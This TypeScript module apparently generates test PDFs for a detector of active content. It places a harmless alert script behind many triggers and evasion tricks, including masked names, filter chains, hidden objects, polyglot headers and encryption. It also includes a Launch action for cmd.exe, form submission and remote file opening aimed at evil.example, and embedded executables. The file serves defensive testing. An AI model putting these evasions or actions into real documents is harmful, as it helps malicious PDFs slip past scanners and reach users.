import { PDFDocument } from '@cantoo/pdf-lib'
import { filters } from './filters.ts'
import { page, pdfPacked, pdfWithTable, withUpdate, type Parts } from './write.ts'

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const opens = page({ catalog: '/OpenAction 5 0 R' })
const stream = (entries: string, text = 'app.alert(1)') => ({ entries, bytes: Buffer.from(text) })

/** Parts that act, each where a viewer looks for it: entries of the catalog and of the page, and further objects. */
const acts: Readonly<Record<string, { catalog?: string; leaf?: string; more?: Parts }>> = {
  'on opening': { catalog: `/OpenAction ${script}` },
  'on opening, elsewhere': { catalog: '/OpenAction 5 0 R', more: { 5: script } },
  'by an indirect name': {
    catalog: '/OpenAction 5 0 R',
    more: { 5: '<< /S 6 0 R /JS 7 0 R >>', 6: '/JavaScript', 7: '(app.alert\\(1\\))' },
  },
  'by a masked name': { catalog: '/OpenAction << /#53 /J#61vaScript /#4A#53 (app.alert\\(1\\)) >>' },
  'behind a comment': { catalog: '/OpenAction << /S % not a name\n/JavaScript /JS (app.alert\\(1\\)) >>' },
  'as hexadecimal digits': { catalog: '/OpenAction << /S /JavaScript /JS <6170702e616c657274283129> >>' },
  'as a stream': { catalog: '/OpenAction << /S /JavaScript /JS 5 0 R >>', more: { 5: stream('') } },
  'after another action': { catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [ ${script} ] >>` },
  'among the names': { catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` },
  'among the names, without its kind': {
    catalog: '/Names << /JavaScript << /Kids [5 0 R] >> >>',
    more: { 5: '<< /Names [(a) << /JS 6 0 R >>] >>', 6: stream('/Subtype /Form') },
  },
  'on closing': { catalog: `/AA << /WC ${script} >>` },
  'of a page': { leaf: `/AA << /O ${script} >>` },
  'of a link': { leaf: `/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A ${script} >>]` },
  'of a field': {
    catalog: '/AcroForm << /Fields [5 0 R] >>',
    more: { 5: `<< /FT /Tx /T (a) /AA << /K ${script} >> >>` },
  },
  'of a bookmark': { catalog: `/Outlines << /First << /Title (a) /A ${script} >> >>` },
  'of a film': { leaf: '/Annots [<< /Subtype /Screen /A << /S /Rendition /JS (app.alert\\(1\\)) >> >>]' },
  'of a model': {
    leaf: '/Annots [<< /Subtype /3D /3DD 5 0 R >>]',
    more: { 5: stream('/Type /3D /OnInstantiate 6 0 R'), 6: stream('') },
  },
  'a program to start': { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' },
  'a form to send': { catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example) >>' },
  'another file to open': { catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) >>' },
  'an attached file': {
    catalog: '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>',
    more: { 5: stream('/Type /EmbeddedFile', 'MZ') },
  },
  'a file beside the text': {
    leaf: '/Annots [<< /Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 5 0 R >> >> >>]',
    more: { 5: stream('', 'MZ') },
  },
  'a film with a program': { leaf: '/Annots [<< /Subtype /RichMedia >>]' },
  'a form that is a program': { catalog: '/AcroForm << /XFA 5 0 R >>', more: { 5: stream('', '<xdp/>') } },
}

const partsOf = ({ catalog, leaf, more }: (typeof acts)[string]): Parts => ({
  ...page({ ...(catalog !== undefined && { catalog }), ...(leaf !== undefined && { leaf }) }),
  ...more,
})

const packedScript = { ...opens, 5: script }
/** An object that only the table of the file finds: in the bytes of a stream, a text or a comment. */
const covered = (cover: (object: string) => string | { entries: string; bytes: Buffer }) => {
  const object = '5 0 obj << /S /JavaScript /JS <6170702e616c657274283129> >> endobj'
  const claims = (file: Buffer) => new Map([[5, file.indexOf(object)]])
  return pdfWithTable({ ...opens, 6: cover(object) }, { claims })
}

/** Ways to store a script so that it is not seen in the bytes of a file, or not by every reader. */
const places = (): Record<string, Buffer> => ({
  ...Object.fromEntries(
    Object.entries(filters).map(([name, chain]) => [`packed by ${name}`, pdfPacked(packedScript, { chain })]),
  ),
  'packed, without its kind': pdfPacked(packedScript, { chain: [], entries: '' }),
  'packed by an indirect filter': pdfPacked(packedScript, {
    chain: filters['flate']!,
    entries: '/Type /ObjStm /Filter 30 0 R',
    more: { 30: '/FlateDecode' },
  }),
  'beside rubbish': pdfWithTable(page({ catalog: '/OpenAction << 17 /S /JavaScript /JS (app.alert\\(1\\)) >>' })),
  'in the bytes of a picture': covered((object) => ({ entries: '/Subtype /Image', bytes: Buffer.from(`~${object}~`) })),
  'in a text': covered((object) => `(${object} )`),
  'in a text, without an end': covered((object) => `(${object})`),
  'in a comment': covered((object) => `null % ${object}`),
  'in a change': withUpdate(pdfWithTable(page()), packedScript),
  'in what a change took away': withUpdate(pdfWithTable(packedScript), page()),
  'not in the table': Buffer.concat([
    pdfWithTable(page()),
    Buffer.from(`1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction ${script} >> endobj\n`),
  ]),
  'without a table': Buffer.from(
    pdfWithTable(packedScript)
      .toString('latin1')
      .replace(/xref[^]*?trailer/, 'trailer'),
    'latin1',
  ),
  'before a second header': Buffer.concat([Buffer.from('GIF89a\n'), pdfWithTable(packedScript)]),
})

/** Locked, but not for a reader without a password. */
const locked = async (objectsPacked: boolean): Promise<Buffer> => {
  const pdf = await PDFDocument.create()
  pdf.addPage().drawRectangle({ width: 9, height: 9 })
  pdf.addJavaScript('main', 'app.alert(1)')
  pdf.encrypt({ ownerPassword: 'owner', userPassword: '' })
  return Buffer.from(await pdf.save({ useObjectStreams: objectsPacked }))
}

export const plainActs = (): [what: string, file: Buffer][] =>
  Object.entries(acts).map(([what, act]) => [what, pdfWithTable(partsOf(act))])

/** Every act in plain and in packed objects, and a script in every place. */
export const hiddenActs = async (): Promise<[what: string, file: Buffer][]> => [
  ...plainActs(),
  ...Object.entries(acts).map(([what, act]): [string, Buffer] => [
    `${what}, packed`,
    pdfPacked(partsOf(act), { chain: filters['flate with a PNG predictor']! }),
  ]),
  ...Object.entries(places()),
  ['in a locked file', await locked(false)],
  ['in a locked file, packed', await locked(true)],
]
